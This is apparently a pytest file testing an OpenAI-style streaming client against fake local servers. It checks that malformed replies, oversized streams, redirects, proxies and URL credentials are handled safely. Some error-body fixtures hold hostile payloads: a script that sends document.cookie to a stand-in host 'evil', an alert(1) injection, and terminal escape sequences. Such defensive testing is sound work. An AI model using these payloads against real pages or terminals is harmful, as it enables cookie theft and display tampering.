"""OpenAIGenerator against scripted fake servers on 127.0.0.1: every reply is untrusted."""

from __future__ import annotations

import base64
import json
import random
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from rag.answer.server import OpenAIGenerator
from rag.errors import QuireError

Script = Callable[[BaseHTTPRequestHandler], None]
ASK = [{"role": "user", "content": "What do owls hunt?"}]


class FakeServer:
    """An HTTP server in a thread; `script` writes each reply, `requests` records what came."""

    def __init__(self) -> None:
        self.script: Script = lambda h: sse(h, chunk("ok"))
        self.requests: list[dict] = []
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                fake.requests.append(
                    {
                        "path": self.path,
                        "headers": dict(self.headers),
                        "body": self.rfile.read(size),
                    }
                )
                try:
                    fake.script(self)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up, as it should

            do_GET = do_POST

            def log_message(self, *args) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.httpd.block_on_close = False
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, args=(0.02,), daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def server() -> Iterator[FakeServer]:
    fake = FakeServer()
    yield fake
    fake.close()


def chunk(text: object = None, **extra) -> dict:
    delta = {} if text is None else {"content": text}
    return {"choices": [{"index": 0, "delta": delta, "finish_reason": None}], **extra}


def sse(h: BaseHTTPRequestHandler, *events: object, done: bool = True) -> None:
    """A 200 event stream of the events (dicts as JSON, bytes and str as given)."""
    h.send_response(200)
    h.send_header("Content-Type", "text/event-stream")
    h.end_headers()
    for e in events:
        if isinstance(e, bytes):
            h.wfile.write(e)
        else:
            h.wfile.write(f"data: {e if isinstance(e, str) else json.dumps(e)}\n\n".encode())
    if done:
        h.wfile.write(b"data: [DONE]\n\n")


def reply(status: int, body: bytes, **headers: str) -> Script:
    def script(h: BaseHTTPRequestHandler) -> None:
        h.send_response(status)
        for k, v in headers.items():
            h.send_header(k.replace("_", "-"), v)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    return script


def ask(gen: OpenAIGenerator) -> list[str]:
    return list(gen.stream(ASK, 16))


def printable(text: str) -> bool:
    return all(c.isprintable() for c in text)


def test_text_streams_and_empty_and_usage_chunks_are_skipped(server):
    usage = {"choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": 2}}
    server.script = lambda h: sse(
        h,
        {"choices": [], "prompt_filter_results": []},  # Azure's first chunk
        {"choices": [{"index": 0, "delta": {"role": "assistant"}}]},
        b": keep-alive comment\n\n",
        chunk("Mice"),
        chunk(" [1]."),
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]},
        usage,  # stream_options.include_usage
    )
    gen = OpenAIGenerator(server.url + "/v1/", model="m", api_key="sk-test", timeout=5)
    assert ask(gen) == ["Mice", " [1]."]
    [req] = server.requests
    assert req["path"] == "/v1/chat/completions"
    assert req["headers"]["Authorization"] == "Bearer sk-test"
    body = json.loads(req["body"])
    assert body["stream"] is True and body["model"] == "m" and body["messages"] == ASK


def test_malformed_chunks_are_skipped_and_the_rest_of_the_answer_kept(server):
    server.script = lambda h: sse(
        h,
        "this is not json",
        "[1, 2]",
        '"a string"',
        "[" * 100_000,  # nested too deep for json
        {"choices": {"0": "not a list"}},
        {"choices": ["not a dict"]},
        {"choices": [{"delta": "not a dict"}]},
        {"choices": [{"delta": None}]},
        chunk(42),
        chunk(["a", "list"]),
        chunk({"a": "dict"}),
        chunk("kept"),
    )
    assert ask(OpenAIGenerator(server.url, timeout=5)) == ["kept"]


@pytest.mark.parametrize(
    "script",
    [
        lambda h: sse(h, "not json", {"choices": "x"}),
        lambda h: sse(h, done=False),  # an empty 200
        reply(200, b"<html><body>Log in to the Wi-Fi</body></html>", Content_Type="text/html"),
    ],
    ids=["only-malformed", "empty", "html-page"],
)
def test_a_reply_without_one_well_formed_chunk_is_an_error(server, script):
    server.script = script
    with pytest.raises(QuireError, match="no OpenAI-style stream"):
        ask(OpenAIGenerator(server.url, timeout=5))


@pytest.mark.parametrize(
    "error",
    [
        {"message": "<b>model</b> crashed\x1b[31m\x07 " + "x" * 5000, "code": 500},
        "<script>alert(1)</script>model crashed\x00\u202e " + "y" * 5000,
        {"code": 500, "detail": ["model crashed"]},
    ],
    ids=["openai-shape", "string", "no-message"],
)
def test_an_error_chunk_is_a_short_clean_quire_error(server, error):
    server.script = lambda h: sse(h, chunk("Mice"), {"error": error})
    gen = OpenAIGenerator(server.url, timeout=5)
    pieces = []
    with pytest.raises(QuireError, match="reported an error") as info:
        for piece in gen.stream(ASK, 16):
            pieces.append(piece)
    msg = str(info.value)
    assert pieces == ["Mice"] and "crashed" in msg
    assert printable(msg) and "<" not in msg and "[31m" not in msg and len(msg) < 320


def test_an_error_status_shows_only_a_short_clean_excerpt(server):
    body = (
        b"<html><head><script>fetch('http://evil/'+document.cookie)</script></head>"
        b"<body>\x1b[2J\x1b]0;pwned\x07\x1b[31mModel is overloaded\x1b[0m\r\n"
        + b"<p>"
        + b"A" * 100_000
        + b"</p></body></html>"
    )
    server.script = reply(503, body, Content_Type="text/html")
    with pytest.raises(QuireError) as info:
        ask(OpenAIGenerator(server.url, timeout=5))
    msg = str(info.value)
    assert "503" in msg and "Model is overloaded" in msg
    assert "<" not in msg and ">" not in msg and "\x1b" not in msg and "pwned" not in msg
    assert printable(msg) and len(msg) < 320


def test_an_openai_error_body_gives_its_message(server):
    body = json.dumps({"error": {"message": "model 'x' not found", "type": "invalid"}})
    server.script = reply(404, body.encode(), Content_Type="application/json")
    with pytest.raises(QuireError, match=r"answered 404: model 'x' not found$"):
        ask(OpenAIGenerator(server.url, timeout=5))


def test_a_trickling_server_is_cut_off_by_the_total_deadline(server):
    def trickle(h: BaseHTTPRequestHandler) -> None:
        sse(h, chunk("Mice"), done=False)
        end = time.monotonic() + 5  # the server gives up on its own eventually
        while time.monotonic() < end:
            h.wfile.write(b": ping\n\n")
            h.wfile.flush()
            time.sleep(0.2)

    server.script = trickle
    gen = OpenAIGenerator(server.url, timeout=1)
    start = time.monotonic()
    with pytest.raises(QuireError, match="did not finish within 1 s"):
        ask(gen)
    assert time.monotonic() - start < 2


def test_a_silent_server_is_cut_off_too(server):
    server.script = lambda h: time.sleep(3)
    start = time.monotonic()
    with pytest.raises(QuireError):
        ask(OpenAIGenerator(server.url, timeout=1))
    assert time.monotonic() - start < 2


def test_proxies_in_the_environment_are_never_used(server, monkeypatch):
    proxy = FakeServer()  # a proxy that would see the excerpts
    proxy.script = reply(502, b"proxied")
    try:
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "all_proxy"):
            monkeypatch.setenv(name, proxy.url)
        for name in ("NO_PROXY", "no_proxy"):
            monkeypatch.delenv(name, raising=False)
        assert ask(OpenAIGenerator(server.url, timeout=5)) == ["ok"]
    finally:
        proxy.close()
    assert len(server.requests) == 1 and proxy.requests == []


def test_credentials_in_the_url_are_sent_but_never_shown(server):
    secret = "s3cret-pw"
    url = server.url.replace("http://", f"http://alice:{secret}@")
    gen = OpenAIGenerator(url + "/v1", model="m", timeout=5)
    assert ask(gen) == ["ok"]
    expected = "Basic " + base64.b64encode(f"alice:{secret}".encode()).decode()
    assert server.requests[0]["headers"]["Authorization"] == expected
    host = server.url.removeprefix("http://")
    assert gen.name == f"m at http://***@{host}/v1"
    assert secret not in repr(gen) and "alice" not in repr(gen) and "***@" in repr(gen)

    server.script = reply(401, f"bad password {secret} for alice".encode())
    with pytest.raises(QuireError) as info:
        ask(gen)
    assert "401" in str(info.value) and secret not in str(info.value)
    assert f"http://***@{host}/v1/chat/completions" in str(info.value)

    server.close()  # now unreachable
    with pytest.raises(QuireError, match="cannot reach") as info:
        ask(gen)
    assert secret not in str(info.value) and "***@" in str(info.value)


def test_credentials_without_a_scheme_are_not_shown_either():
    gen = OpenAIGenerator("bob:hunter22@127.0.0.1:9", timeout=1)
    assert "hunter22" not in gen.name and "hunter22" not in repr(gen)
    with pytest.raises(QuireError) as info:
        ask(gen)
    assert "hunter22" not in str(info.value)


def test_a_redirect_is_not_followed_and_names_only_its_status(server):
    server.script = reply(302, b"moved to the collector", Location=f"{server.url}/collect")
    with pytest.raises(QuireError, match="answered 302") as info:
        ask(OpenAIGenerator(server.url, timeout=5))
    assert "collect" not in str(info.value)
    assert [r["path"] for r in server.requests] == ["/v1/chat/completions"]


def test_a_line_over_one_mib_ends_the_answer(server):
    def long_line(h: BaseHTTPRequestHandler) -> None:
        sse(h, chunk("Mice"), done=False)
        h.wfile.write(b'data: {"choices": [{"delta": {"content": "')
        for _ in range(20):  # 1.25 MiB with no end of line
            h.wfile.write(b"a" * (64 << 10))

    server.script = long_line
    with pytest.raises(QuireError, match="a line over"):
        ask(OpenAIGenerator(server.url, timeout=5))


def test_a_reply_over_four_mib_ends_the_answer(server):
    line = b": " + b"p" * 1022 + b"\n"  # comments: nothing for the answer, yet memory and time

    def flood(h: BaseHTTPRequestHandler) -> None:
        sse(h, chunk("Mice"), done=False)
        for _ in range(5 << 10):  # 5 MiB
            h.wfile.write(line)
        h.wfile.write(b"data: [DONE]\n\n")

    server.script = flood
    with pytest.raises(QuireError, match="sent more than"):
        ask(OpenAIGenerator(server.url, timeout=10))


def test_a_long_answer_within_the_limits_streams_whole(server):
    pieces = [f" word{i}" for i in range(5000)]
    server.script = lambda h: sse(h, *(chunk(p, id="x" * 200) for p in pieces))
    assert ask(OpenAIGenerator(server.url, timeout=10)) == pieces


def test_a_compressed_reply_is_refused_not_inflated(server):
    import gzip

    stream = b"".join(f"data: {json.dumps(chunk('Mice'))}\n\n".encode() for _ in range(10))
    server.script = reply(200, gzip.compress(stream), Content_Encoding="gzip")
    with pytest.raises(QuireError, match="compressed"):
        ask(OpenAIGenerator(server.url, timeout=5))
    assert server.requests[0]["headers"]["Accept-Encoding"] == "identity"


def _garbage_scripts() -> list[Script]:
    rng = random.Random(0)

    def raw(data: bytes) -> Script:
        return lambda h: (h.wfile.write(data), h.wfile.flush())

    scripts = [
        raw(b"NOT HTTP AT ALL\r\n\r\n"),
        raw(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\ndata: {"),  # cut short
        raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"),
        raw(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n\x1f\x8b\x08garbage"),
        raw(b"HTTP/1.1 999 Weird\r\n\r\n\xff\xfe\x00"),
        raw(b""),  # closed without a word
    ]
    for _ in range(12):
        junk = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400)))
        scripts.append(lambda h, junk=junk: sse(h, junk, b"data: " + junk + b"\n\n"))
        scripts.append(raw(b"HTTP/1.0 200 OK\r\n\r\n" + junk))
    return scripts


GARBAGE = _garbage_scripts()


@pytest.mark.parametrize("script", GARBAGE, ids=[f"garbage{i}" for i in range(len(GARBAGE))])
def test_nothing_but_quire_error_escapes_for_any_reply(server, script):
    server.script = script
    try:
        pieces = ask(OpenAIGenerator(server.url, timeout=5))
    except QuireError as exc:
        assert printable(str(exc)) and len(str(exc)) < 400
    else:
        assert all(isinstance(p, str) and p for p in pieces)


def test_the_constructor_stays_compatible():
    gen = OpenAIGenerator("http://127.0.0.1:9/", "m", "k", 2048, 30)
    assert (gen.kind, gen.params, gen.context_size, gen.timeout) == ("server", None, 2048, 30)
    assert gen.name == "m at http://127.0.0.1:9" and gen.url == "http://127.0.0.1:9"
